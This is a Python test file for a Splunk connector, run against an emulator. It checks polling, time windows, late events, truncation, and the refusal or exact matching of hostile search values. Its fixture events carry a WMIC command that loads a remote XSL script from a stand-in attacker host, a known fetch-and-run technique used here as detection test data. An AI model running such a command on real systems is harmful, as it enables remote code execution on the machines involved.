"""The Splunk client against the stand-in over real sockets: windows, late events, hostile values.

What a search returns is the stand-in's reading of SPL, not Splunk's: see docs/products/splunk.md.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from connectors.emulators.splunk import Splunk as Emulator
from connectors.errors import NotFound, Rejected, Unavailable
from connectors.http import HttpSettings, Runtime
from connectors.model import (
    EventQuery,
    Operator,
    Row,
    SavedSearch,
    SearchJob,
    SearchPhase,
    Secret,
    Term,
    Window,
)
from connectors.siem.splunk.connection import Splunk
from connectors.siem.splunk.window import halve, next_window, rest_of, watermark_after
from tests.fake_clock import FakeClock

HITS = SavedSearch(name="WMIC format hits")
INTERNAL = SavedSearch(name="WMIC format hits (internal fields)")


class World:
    """A stand-in, its clock, and clients of it."""

    def __init__(self) -> None:
        self.clock = FakeClock()
        self.emulator = Emulator(self.clock)
        self.serial = 0

    def client(self, token: str | None = None, **options: int) -> Splunk:
        return Splunk(
            name="splunk",
            tenant="example",
            settings=HttpSettings(base_url=self.emulator.base_url),
            credentials={"token": Secret(token or self.emulator.credentials["token"])},
            options=Splunk.Options(**options),  # type: ignore[arg-type]
            runtime=Runtime(clock=self.clock, emulated=True),
        )

    def now(self) -> int:
        return int(self.clock.now().timestamp())

    def run_wmic(self, host: str, *, age_s: float = 0, index_age_s: float = 0) -> str:
        """One hit; gives its process id, which no other event has."""
        self.serial += 1
        guid = f"{{00000000-0000-0000-0000-{self.serial:012d}}}"
        event = {
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventID": 1,
            "Computer": host,
            "Image": "C:\\Windows\\System32\\wbem\\wmic.exe",
            "CommandLine": 'wmic os get /format:"https://evil.example.test/x.xsl"',
            "ProcessGuid": guid,
            "User": "EXAMPLE\\user",
        }
        self.emulator.add_event(event, age_s=age_s, index_age_s=index_age_s)
        return guid


@pytest.fixture(params=["9.2.1", "9.0.1"])
def world(request: pytest.FixtureRequest) -> Iterator[World]:
    found = World()
    found.emulator.tune(version=request.param)
    found.emulator.start()
    yield found
    found.emulator.stop()
    assert found.emulator.crashes == []


def rows_of(splunk: Splunk, job: SearchJob) -> list[Row]:
    status = splunk.search_status(job)
    assert status.phase is SearchPhase.COMPLETE, status
    return list(splunk.fetch_rows(job, status.row_count))


def guids(rows: list[Row]) -> list[object]:
    return [row["ProcessGuid"] for row in rows]


def window_of(start: int, end: int) -> Window:
    return Window(start=start, end=end, event_start=start - 604_800, event_end=end + 86_400)


def test_poll_when_a_job_takes_its_time_then_it_is_followed_to_its_rows_and_freed(
    world: World,
) -> None:
    world.emulator.tune(job_s=9.0)
    splunk = world.client()
    window = next_window(None, int(splunk.server_time().timestamp()))
    assert window is not None
    job = splunk.start_saved_search(HITS, window)
    phases = []
    for _ in range(4):
        phases.append(splunk.search_status(job).phase)
        world.clock.advance(3)
    assert phases == [SearchPhase.RUNNING] * 3 + [SearchPhase.COMPLETE]
    rows = rows_of(splunk, job)
    assert rows
    assert all("format" in str(row["cmdline"]).lower() for row in rows)
    splunk.cancel_search(job)
    splunk.cancel_search(job)
    assert splunk.search_status(job).phase is SearchPhase.LOST


def test_poll_when_an_event_is_indexed_late_then_the_window_over_index_time_finds_it(
    world: World,
) -> None:
    splunk = world.client()
    guid = world.run_wmic("WS-7.example.test", age_s=3 * 3600, index_age_s=10)
    window = window_of(world.now() - 60, world.now())
    assert guids(rows_of(splunk, splunk.start_saved_search(INTERNAL, window))) == [guid]


def test_poll_when_two_events_share_the_second_of_an_edge_then_both_come_exactly_once(
    world: World,
) -> None:
    splunk = world.client()
    edge = world.now() - 600
    here = {world.run_wmic(f"WS-{n}.example.test", index_age_s=600) for n in (1, 2)}
    before, after = window_of(edge - 300, edge), window_of(edge, edge + 300)
    found = [
        guids(rows_of(splunk, splunk.start_saved_search(INTERNAL, w))) for w in (before, after)
    ]
    assert here.isdisjoint(found[0])
    assert here <= set(found[1])


def test_poll_when_ticks_come_every_minute_then_each_event_is_seen_though_it_shows_late(
    world: World,
) -> None:
    splunk = world.client()
    watermark = world.now() - 60
    expected: set[str] = set()
    seen: set[object] = set()
    for tick in range(8):
        if tick < 3:
            world.serial += 1
            event = {
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "EventID": 1,
                "Computer": "WS-9.example.test",
                "Image": "C:\\wmic.exe",
                "CommandLine": "wmic os get /format:x.xsl",
                "ProcessGuid": f"{{late-{tick}}}",
            }
            # Indexed now, and for 200 s no search can find it: inside the overlap.
            world.emulator.add_event(event, visible_in_s=200)
            expected.add(f"{{late-{tick}}}")
        world.clock.advance(60)
        window = next_window(watermark, int(splunk.server_time().timestamp()))
        assert window is not None
        seen |= set(guids(rows_of(splunk, splunk.start_saved_search(INTERNAL, window))))
        watermark = watermark_after(window)
    assert expected <= seen


def test_poll_when_the_row_cap_is_reached_then_halves_bring_every_row(world: World) -> None:
    splunk = world.client(row_cap=4)
    world.emulator.tune(row_cap=4)
    expected = {world.run_wmic("WS-5.example.test", index_age_s=1000 + 40 * n) for n in range(9)}
    todo = [window_of(world.now() - 1400, world.now() - 950)]
    seen: list[object] = []
    truncated = 0
    while todo:
        window = todo.pop()
        job = splunk.start_saved_search(INTERNAL, window)
        status = splunk.search_status(job)
        if status.phase is SearchPhase.TRUNCATED:
            truncated += 1
            half = halve(window)
            rest = rest_of(window, half)
            assert rest is not None
            todo += [rest, half]
            continue
        seen += guids(list(splunk.fetch_rows(job, status.row_count)))
    assert truncated >= 2
    assert sorted(map(str, seen)) == sorted(expected)


@pytest.mark.parametrize(
    ("how", "phase"),
    [
        ({"content": {"isFailed": True}, "messages": (("FATAL", "x"),)}, SearchPhase.FAILED),
        ({"content": {"dispatchState": "USER_CANCEL"}}, SearchPhase.FAILED),
        ({"content": {"isFinalized": True}}, SearchPhase.TRUNCATED),
        ({"messages": (("WARN", "search peer idx-2 is down"),)}, SearchPhase.PARTIAL),
        ({"never_done": True}, SearchPhase.RUNNING),
    ],
    ids=str,
)
def test_poll_when_a_job_goes_wrong_then_its_phase_says_so(
    world: World, how: dict[str, object], phase: SearchPhase
) -> None:
    world.emulator.spoil_job(**how)
    splunk = world.client()
    job = splunk.start_saved_search(HITS, window_of(world.now() - 3600, world.now()))
    assert splunk.search_status(job).phase is phase


def test_poll_when_the_answer_is_partial_then_its_rows_can_still_be_taken(world: World) -> None:
    world.emulator.spoil_job(messages=(("WARN", "search peer idx-2 is down"),))
    splunk = world.client()
    job = splunk.start_saved_search(HITS, window_of(world.now() - 3600, world.now()))
    status = splunk.search_status(job)
    assert len(list(splunk.fetch_rows(job, status.row_count))) == status.row_count > 0


def test_fetch_rows_when_the_job_expires_before_then_it_is_unavailable(world: World) -> None:
    splunk = world.client()
    job = splunk.start_saved_search(HITS, window_of(world.now() - 3600, world.now()))
    count = splunk.search_status(job).row_count
    world.emulator.drop_jobs()
    with pytest.raises(Unavailable) as caught:
        list(splunk.fetch_rows(job, count))
    assert caught.value.code == "expired"


def test_start_when_the_saved_search_is_not_there_then_it_is_not_found(world: World) -> None:
    with pytest.raises(NotFound, match="no such"):
        world.client().start_saved_search(SavedSearch(name="no such"), window_of(0, 10))


def test_check_when_the_stand_in_is_well_then_all_is_well_and_no_job_is_left(world: World) -> None:
    world.run_wmic("WS-1.example.test", age_s=30)
    assert [result for result in world.client().check() if not result.ok] == []
    assert world.emulator.jobs == {}


def test_check_when_the_token_is_wrong_then_that_is_the_only_thing_said(world: World) -> None:
    (result,) = world.client(token="made-up-wrong").check()
    assert not result.ok
    assert "token" in str(result.mend)
    assert "made-up-wrong" not in str(result.mend)


# -- hunts -----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hunting() -> Iterator[World]:
    found = World()
    found.emulator.start()
    yield found
    found.emulator.stop()
    assert found.emulator.crashes == []


def hunt(world: World, operator: Operator, value: str, *, limit: int = 50) -> list[Row] | None:
    """The rows, or None when the value was refused as unsafe."""
    splunk = world.client()
    query = EventQuery(
        index="main",
        start=world.clock.now() - timedelta(hours=1),
        end=world.clock.now() + timedelta(hours=1),
        terms=(Term(fields=("process", "cmdline"), operator=operator, values=(value,)),),
        fields=("_time", "cmdline", "ProcessGuid"),
        limit=limit,
    )
    try:
        job = splunk.start_event_query(query)
    except Rejected as error:
        if error.code in ("unsafe_value", "empty_selector"):
            return None
        raise
    return rows_of(splunk, job)


NASTY = st.text(st.sampled_from("ab\"\\*|[]()=,' %10.-/日é"), min_size=1, max_size=12)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=NASTY, other=NASTY)
def test_hunt_when_any_value_is_sought_exactly_then_only_rows_with_it_come_and_all_of_them(
    hunting: World, value: str, other: str
) -> None:
    lines = [value, other, value + other, value.upper()]
    wanted: dict[str, str] = {}
    for line in lines:
        hunting.serial += 1
        guid = f"{{nasty-{hunting.serial}}}"
        wanted[guid] = line
        event = {"EventID": 1, "CommandLine": line, "ProcessGuid": guid, "Image": "x.exe"}
        event |= {"Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "WS-1"}
        hunting.emulator.add_event(event)
    for operator in Operator:
        rows = hunt(hunting, operator, value, limit=5000)
        if rows is None:
            continue
        found = {str(row["ProcessGuid"]): str(row["cmdline"]) for row in rows}
        sought = value.lower()
        for line in found.values():
            is_match = line.lower() == sought or (
                operator is Operator.CONTAINS and sought in line.lower()
            )
            assert is_match, (operator, value, line)
        for guid, line in wanted.items():
            must = line.lower() == sought if operator is Operator.EQUALS else sought in line.lower()
            assert (guid in found) is must, (operator, value, line)


def test_hunt_when_there_is_more_than_the_limit_then_it_is_never_complete(world: World) -> None:
    for _ in range(4):
        world.run_wmic("WS-3.example.test")
    splunk = world.client()
    query = EventQuery(
        index="main",
        start=world.clock.now() - timedelta(minutes=1),
        end=world.clock.now() + timedelta(minutes=1),
        terms=(Term(fields=("host",), operator=Operator.EQUALS, values=("ws-3.EXAMPLE.test",)),),
        fields=("host",),
        limit=3,
    )
    job = splunk.start_event_query(query)
    assert splunk.search_status(job).phase is SearchPhase.TRUNCATED
    wider = msgspec.structs.replace(query, limit=4)
    rows = rows_of(splunk, splunk.start_event_query(wider))
    assert [row["host"] for row in rows] == ["WS-3.example.test"] * 4
    assert all("_raw" not in row and "_cd" in row for row in rows)
